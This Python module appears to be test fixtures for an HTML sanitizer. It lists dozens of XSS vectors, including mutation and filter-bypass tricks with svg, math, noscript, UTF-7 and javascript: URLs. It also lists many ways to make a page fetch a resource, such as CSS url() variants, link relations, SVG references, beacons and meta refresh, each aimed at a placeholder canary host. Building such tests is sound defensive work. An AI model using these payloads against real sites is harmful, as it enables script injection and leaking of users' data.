"""Ways to smuggle a script into HTML, and ways to make it load something.

In all of them "@@" is where a canary listens, and "%" in XSS is the script.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

RAN: Final = "SCRIPT-RAN"

# What a vector runs, without quotes, spaces and angle brackets, so that it fits anywhere.
JS: Final = f"document.title=`{RAN}`;(new(Image)).src=`//@@/js`"
JS_BASE64: Final = "JSBASE64"

XSS: Final = [
    "<script>%</script>",
    "<SCRIPT/x>%</SCRIPT >",
    "<script type=module>%</script>",
    "<script src=//@@/script></script>",
    "<script src=data:text/javascript,%></script>",
    "<script>%",
    "<<script>%//<</script>",
    "<scr<script>ipt>%</scr</script>ipt>",
    "<script\x00>%</script>",
    "<script><!--\n%\n--></script>",
    "<img src=x onerror=%>",
    '<img src="x" onerror="%">',
    "<img src=x onerror='%'>",
    "<img/src=x/onerror=%>",
    '<img src=x\nonerror\n=\n"%">',
    "<img src=x oNeRrOr=%>",
    '<img """><script>%</script>">',
    "<img src=x onerror=&#x64;ocument.title=`%`>",
    "<image src=x onerror=%>",
    "<body onload=%>",
    "<body onpageshow=%>",
    "<body onfocus=%><input autofocus>",
    "<frameset onload=%>",
    "<svg onload=%>",
    "<svg/onload=%>",
    "<svg><script>%</script></svg>",
    "<svg><script href=data:text/javascript,%></script></svg>",
    "<svg><script xlink:href=//@@/svg-script></script></svg>",
    "<svg><animate onbegin=% attributeName=x dur=1s></svg>",
    "<svg><set onbegin=% attributeName=x></svg>",
    "<svg><a xlink:href=javascript:%><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.%</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=%></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=%>'>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=%>",
    "<math><mi><table><mglyph><style><img src=x onerror=%></style></table></math>",
    "<math href=javascript:%>x</math>",
    "<iframe src=javascript:%></iframe>",
    "<iframe srcdoc='<script>top.%</script>'></iframe>",
    "<iframe srcdoc='<img src=x onerror=%>'></iframe>",
    "<iframe onload=% src=about:blank></iframe>",
    "<iframe src='data:text/html,<script>%</script>'></iframe>",
    "<object data='data:text/html,<script>%</script>'></object>",
    "<object data=javascript:%></object>",
    "<embed src='data:text/html,<script>%</script>'>",
    f"<embed src='data:image/svg+xml;base64,{JS_BASE64}'>",
    "<video src=x onerror=%></video>",
    "<video><source onerror=% src=x></video>",
    "<audio src=x onerror=%></audio>",
    "<input autofocus onfocus=%>",
    "<textarea autofocus onfocus=%></textarea>",
    "<select autofocus onfocus=%></select>",
    "<button autofocus onfocus=%>x</button>",
    "<details open ontoggle=%>x</details>",
    "<marquee onstart=%>x</marquee>",
    "<style>@keyframes k{}</style><div style='animation:k 1ms' onanimationstart=%>x</div>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=%>",
    "<style onload=%></style>",
    "<meta http-equiv=refresh content='0;url=javascript:%'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>%</script>'>",
    "<meta charset=utf-7>+ADw-script+AD4-%+ADw-/script+AD4-",
    "<base href=javascript:/x/><a href=%>x</a><form action=x><input type=submit></form>",
    "<form action=javascript:%><button autofocus>x</button></form>",
    "<a href=javascript:% autofocus>x</a>",
    "<template><script>%</script></template><script>%</script>",
    "<noscript><p title='</noscript><img src=x onerror=%>'></noscript>",
    "<title></title><script>%</script></title>",
    "<textarea></textarea><script>%</script></textarea>",
    "<xmp></xmp><img src=x onerror=%></xmp>",
    "<!--><img src=x onerror=%>-->",
    "<!-- --!><img src=x onerror=%> -->",
    "<![CDATA[<img src=x onerror=%>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:%'?><img src=x onerror=%>",
    "<div style=\"background:url('javascript:%')\">x</div>",
    "<table background=javascript:%><td background=javascript:%>x</table>",
    "<div popover id=p onbeforetoggle=%>x</div><button popovertarget=p autofocus>y</button>",
]


def declared(declaration: str, number: int) -> str:
    """With a URL of its own for each "url", and quotes that fit into an attribute."""
    return re.sub(r"url(?![(-])", f"url(http://@@/style-{number})", declaration).replace("`", "&quot;")


# Every way that we know of to make a page load something. Each names its own path, so that a failure names the leak.
LEAKS: Final = [
    *(f"<{tag} {attribute}=http://@@/{tag}-{attribute}></{tag}>" for tag, attribute in [
        ("img", "src"), ("img", "srcset"), ("img", "longdesc"), ("img", "dynsrc"), ("img", "lowsrc"), ("image", "src"),
        ("image", "href"), ("input type=image", "src"), ("body", "background"), ("table", "background"),
        ("td", "background"), ("iframe", "src"), ("frame", "src"), ("embed", "src"), ("object", "data"),
        ("object", "codebase"), ("object", "classid"), ("applet", "code"), ("applet", "archive"), ("audio", "src"),
        ("video", "src"), ("video", "poster"), ("track", "src"), ("source", "src"), ("source", "srcset"),
        ("script", "src"), ("bgsound", "src"), ("portal", "src"), ("fencedframe", "src"), ("isindex", "src"),
        ("a", "ping"), ("blockquote", "cite"), ("q", "cite"), ("ins", "cite"), ("layer", "src"), ("ilayer", "src"),
        ("html", "manifest"), ("menuitem", "icon"), ("xml", "src"), ("div", "attributionsrc"),
        ("img", "attributionsrc"),
    ]),
    *(f"<link rel={relation} href=http://@@/link-{relation}>" for relation in [
        "stylesheet", "icon", "apple-touch-icon", "manifest", "prefetch", "preconnect", "dns-prefetch", "prerender",
        "subresource", "modulepreload", "import", "next", "search", "pingback", "alternate", "canonical", "mask-icon",
        "expect", "author", "help", "license", "amphtml", "shortcut",
    ]),
    *(f"<link rel=preload as={kind} href=http://@@/preload-{kind}>" for kind in
      ("script", "style", "image", "font", "fetch", "track", "audio", "video", "document")),
    *(f"<p style='width:9px;height:9px;{declared(declaration, number)}'>x</p>"
      for number, declaration in enumerate([
        "background:url", "background-image:url", "list-style:url;display:list-item",
        "list-style-image:url;display:list-item",
        "border-image:url 30", "border-image-source:url;border:1px solid", "content:url", "filter:url",
        "cursor:url,auto",
        "mask:url", "-webkit-mask-image:url", "mask-border:url 1", "clip-path:url", "shape-outside:url;float:left",
        "background:image-set(url 1x)", "background:-webkit-image-set(url 1x)", "background:cross-fade(url,url)",
        "offset-path:url", "-webkit-box-reflect:below 0 url", "background:element(url)", "--x:url;background:var(--x)",
        "background:\\75\\72\\6c(http://@@/style-escaped)", "background:u/**/rl(http://@@/style-comment)",
        "background:image-set(`http://@@/image-set-string` 1x)", "content:image-set(`http://@@/content-string` 1x)",
        "background:-webkit-image-set(`http://@@/webkit-image-set-string` 1x)", "background:src(`http://@@/src`)",
        "background:image(`http://@@/image`)", "background:URL(http://@@/upper-case)", "background:url(//@@/no-scheme)",
        "background:url(\\68ttp://@@/escaped-scheme)", "background:-webkit-cross-fade(url,url,.5)",
        "-webkit-border-image:url 30 stretch;border:9px solid", "-webkit-mask-box-image:url 30",
        "background:linear-gradient(red,red),url", "backdrop-filter:url", "filter:drop-shadow(0 0 red) url",
    ])),
    "<style>@import 'http://@@/import-string';@import url(http://@@/import-url) screen;</style>",
    "<style>@import url(http://@@/import-layer) layer(x) supports(display:block);</style>",
    "<style>@font-face{font-family:f;src:url(http://@@/font)}p{font-family:f}</style><p>x</p>",
    "<style>@namespace x url(http://@@/namespace);p::before{content:url(http://@@/before)}</style><p>x</p>",
    "<style>p::marker{content:url(http://@@/marker)}p{display:list-item}</style><p>x</p>",
    "<style>@media screen{body{background:url(http://@@/media)}}</style><p>x</p>",
    "<style>@\\69mport 'http://@@/import-escaped';</style>",
    "<style>@charset 'x';@import url(http://@@/after-charset);</style>",
    "<style>@counter-style c{system:cyclic;symbols:url(http://@@/counter)}li{list-style:c}</style><li>x</li>",
    "<style>@page{background:url(http://@@/page)}@supports(x:y) or (color:red){p{background:url(http://@@/supports)}}"
    "</style><p>x</p>",
    "<style>@layer l{p{background:url(http://@@/layer)}}@scope(p){:scope{mask:url(http://@@/scope)}}</style><p>x</p>",
    "<style>@font-face{font-family:g;src:local(x),url(http://@@/font-2) format('woff2')}b{font:9px g}</style><b>x</b>",
    "<style>p{&:not(x){background:url(http://@@/nested)}}::selection{cursor:url(http://@@/selection),auto}</style>"
    "<p>x</p>",
    "<style>input::placeholder{background:url(http://@@/placeholder)}</style><input placeholder=x>",
    "<style>dialog::backdrop{background:url(http://@@/backdrop)}</style><dialog open>x</dialog>",
    "<style>p::first-letter{background:url(http://@@/letter)}p::first-line{background:url(http://@@/line)}</style>"
    "<p>x</p>",
    "<style>p{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image "
    "href='http://@@/svg-in-css'/></svg>\")}</style><p>x</p>",
    "<link rel=preload as=image imagesrcset='http://@@/imagesrcset 1x' imagesizes=9px>",
    "<link rel=compression-dictionary href=http://@@/dictionary><link rel=monetization href=http://@@/monetization>",
    "<link rel='stylesheet alternate' title=x href=http://@@/alternate-sheet>",
    "<link rel=STYLESHEET href=//@@/upper-case>",
    "<link rel=stylesheet href=\"data:text/css,@import 'http://@@/sheet-in-data'\">",
    "<script>fetch(`http://@@/fetch`);navigator.sendBeacon(`http://@@/beacon`);new(WebSocket)(`ws://@@/socket`)</script>",
    "<img srcset=http://@@/lazy loading=eager fetchpriority=high><img src=x crossorigin ismap usemap=http://@@/usemap>",
    "<input type=image srcset=http://@@/input-srcset><button type=image src=http://@@/button>x</button>",
    "<svg><feImage href=http://@@/bare-fe-image /><tref xlink:href=http://@@/tref /></svg>",
    "<svg><cursor xlink:href=http://@@/svg-cursor /><color-profile xlink:href=http://@@/color-profile /></svg>",
    "<svg><audio href=http://@@/svg-audio /></svg>",
    "<svg><iframe src=http://@@/svg-frame /></svg>",
    "<svg style='background:url(http://@@/svg-style)'><g style='mask:url(http://@@/g-mask)'><path d='M0 0h9' "
    "marker-mid=url(http://@@/marker-mid) marker-end=url(http://@@/marker-end) /></g></svg>",
    "<math><annotation-xml encoding=text/html><img src=http://@@/annotation></annotation-xml></math>",
    "<noscript><img src=http://@@/noscript><style>@import 'http://@@/noscript-import';</style></noscript>",
    "<xmp></xmp><img src=http://@@/behind-xmp><noembed></noembed><img src=http://@@/behind-noembed>",
    "<object type=text/html data=http://@@/object-html><img src=http://@@/fallback></object>",
    "<video src=data:, poster=http://@@/poster-only></video>",
    "<audio controls src=http://@@/audio-only preload=auto></audio>",
    "<style>@property --u{syntax:'<url>';inherits:false;initial-value:url(http://@@/property)}</style>",
    "<svg width=9 height=9><image href=http://@@/svg-image /><image xlink:href=http://@@/svg-xlink width=9 /></svg>",
    "<svg><use href=http://@@/svg-use#x /><use xlink:href=http://@@/svg-use-xlink#x /></svg>",
    "<svg><filter id=f><feImage href=http://@@/fe-image xlink:href=http://@@/fe-image-x /></filter><rect width=9 "
    "height=9 filter=url(#f) /></svg>",
    "<svg><rect width=9 height=9 fill=url(http://@@/fill#x) stroke=url(http://@@/stroke#x) mask=url(http://@@/mask#x) "
    "clip-path=url(http://@@/clip#x) filter=url(http://@@/filter#x) marker-start=url(http://@@/marker#x) "
    "cursor=url(http://@@/cursor) /></svg>",
    "<svg><image><animate attributeName=href values=http://@@/animate /><set attributeName=href to=http://@@/set />"
    "</image></svg>",
    "<svg><style>@import 'http://@@/svg-import';</style><font-face-uri xlink:href=http://@@/font-face-uri /></svg>",
    "<svg><script href=http://@@/svg-script /><foreignObject><img src=http://@@/foreign></foreignObject></svg>",
    "<svg><pattern xlink:href=http://@@/pattern#x /><linearGradient href=http://@@/gradient#x /><textPath "
    "href=http://@@/textpath#x>x</textPath><mpath href=http://@@/mpath#x /></svg>",
    "<?xml-stylesheet type='text/css' href='http://@@/xml-stylesheet'?>",
    "<!DOCTYPE html SYSTEM 'http://@@/doctype'>",
    "<!--[if gte mso 9]><img src=http://@@/conditional><![endif]--><![if !mso]><img src=http://@@/downlevel><![endif]>",
    "<meta http-equiv=refresh content='0;url=http://@@/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';report-uri http://@@/report\"><img src=x>",
    "<meta http-equiv=Link content='<http://@@/meta-link>;rel=stylesheet'>",
    "<meta name=msapplication-TileImage content=http://@@/tile><meta property=og:image content=http://@@/og>",
    "<base href=http://@@/base/><img src=relative><a href=x ping=y>z</a>",
    "<img srcset='http://@@/srcset-1 1x,http://@@/srcset-2 2x' sizes=100vw>",
    "<picture><source srcset=http://@@/picture><img src=data:,></picture>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
    "<image xlink:href=\"http://@@/svg-in-data\" width=\"9\" height=\"9\"/></svg>'>",
    "<iframe srcdoc='<img src=http://@@/srcdoc>'></iframe>",
    "<iframe src='data:text/html,<img src=http://@@/iframe-data>'></iframe>",
    "<object><param name=movie value=http://@@/param><embed src=http://@@/inner-embed></object>",
    "<video controls><track default src=http://@@/track kind=subtitles><source src=http://@@/source></video>",
    "<form action=http://@@/form><button formaction=http://@@/formaction autofocus>x</button></form>",
    "<div style='behavior:url(http://@@/behavior);-moz-binding:url(http://@@/binding)'>x</div>",
    "<img src=//@@/scheme-relative><img src=\\\\@@\\backslash><img src='ht\ntp://@@/newline'><img src=' http://@@/space'>",
    "<img src=https://@@/tls><img src=ftp://@@/ftp><img src=ws://@@/ws>",
    "<template shadowrootmode=open><img src=http://@@/shadow></template>",
    "<table><tr background=http://@@/tr><td background=http://@@/cell>x</table>",
    "<dialog open><img src=http://@@/dialog loading=eager></dialog><details open><img src=http://@@/details></details>",
    "<model src=http://@@/model></model><math><maction actiontype=x xlink:href=http://@@/maction>x</maction></math>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://@@/speculation\"]}]}</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"http://@@/importmap\"}}</script>",
]  # fmt: skip


# Every element there is, each with every attribute that has ever named a URL; the last swallows what follows it.
ELEMENTS: Final = """
    a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br
    button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div
    dl dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset geolocation h1 head
    header hgroup hr html i iframe ilayer image img input ins isindex kbd keygen label layer legend li link listing main
    map mark marquee math menu menuitem meta meter model multicol nav nextid nobr noembed noframes noscript object ol
    optgroup option output p param permission picture portal pre progress q rb rbc rp rt rtc ruby s samp script search
    section select selectedcontent selectlist shadow slot small source spacer span strike strong style sub summary sup
    svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr webview xml xmp
    plaintext"""
SVG_ELEMENTS: Final = """
    a animate animateColor animateMotion animateTransform circle clipPath color-profile cursor defs desc discard ellipse
    feBlend feColorMatrix feComponentTransfer feComposite feConvolveMatrix feDiffuseLighting feDisplacementMap
    feDistantLight feDropShadow feFlood feFuncA feFuncB feFuncG feFuncR feGaussianBlur feImage feMerge feMergeNode
    feMorphology feOffset fePointLight feSpecularLighting feSpotLight feTile feTurbulence filter font font-face
    font-face-format font-face-name font-face-src font-face-uri foreignObject g glyph glyphRef handler hatch hkern image
    line linearGradient listener marker mask mesh metadata missing-glyph mpath path pattern polygon polyline
    radialGradient rect script set solidcolor stop style svg switch symbol tbreak text textArea textPath title tref
    tspan unknown use video view vkern"""
URL_ATTRIBUTES: Final = """
    action archive attributionsrc background cite classid code codebase data dynsrc formaction href icon imagesrcset
    itemid longdesc lowsrc manifest ping pluginspage poster profile src srcset usemap xlink:href xml:base"""


def every_element() -> str:
    """Each twice, since one attribute may hide another: with all of them, and without srcset and src."""

    def tag(name: str, without: set[str]) -> str:
        attributes = " ".join(
            f"{attribute}=http://@@/{name}-{attribute}"
            for attribute in URL_ATTRIBUTES.split()
            if attribute not in without
        )
        return f"<{name} rel=stylesheet type=image {attributes}>x</{name}>"

    def tags(names: str) -> str:
        return "".join(tag(name, without) for name in names.split() for without in (set(), {"srcset", "src"}))

    svg = f"<svg width=9 height=9>{tags(SVG_ELEMENTS)}</svg>"
    table = f"<table><tr><td>{tags('img')}</td>{tags('th td')}</tr>{tags('tr tbody caption')}</table>"
    return svg + table + tags(ELEMENTS)


def every_property(names: Iterable[str]) -> str:
    """Each of the CSS properties, as scripts name them, with a URL."""
    dashed = {re.sub("^webkit", "-webkit", re.sub("[A-Z]", lambda each: f"-{each[0].lower()}", name)) for name in names}
    return "".join(f"<p style='{name}:url(http://@@/property-{name})'>x</p>" for name in sorted(dashed))
